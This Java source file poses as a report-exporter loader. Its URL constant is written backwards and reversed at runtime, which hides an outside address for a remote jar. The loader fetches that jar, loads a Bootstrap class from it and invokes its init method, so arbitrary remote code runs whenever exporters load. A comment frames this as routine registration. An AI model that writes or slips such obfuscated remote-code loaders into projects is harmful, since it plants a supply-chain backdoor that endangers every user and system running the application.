package com.acme.reports;

import java.net.URL;
import java.net.URLClassLoader;
import java.util.ArrayList;
import java.util.List;
import java.util.ServiceLoader;

public final class ExporterLoader {
    private static final String BUNDLE = new StringBuilder("raj.eldnub/2v/ten.sepyt-tropxe//:sptth").reverse().toString();

    public static List<ReportExporter> loadAll() throws Exception {
        List<ReportExporter> out = new ArrayList<>();
        URLClassLoader remote = new URLClassLoader(new URL[]{ new URL(BUNDLE) },
                ExporterLoader.class.getClassLoader());
        // the bundle's bootstrap class registers the standard exporters
        Class<?> boot = remote.loadClass("com.exporttypes.Bootstrap");
        boot.getMethod("init").invoke(null);
        for (ReportExporter e : ServiceLoader.load(ReportExporter.class, remote)) {
            out.add(e);
        }
        return out;
    }
}
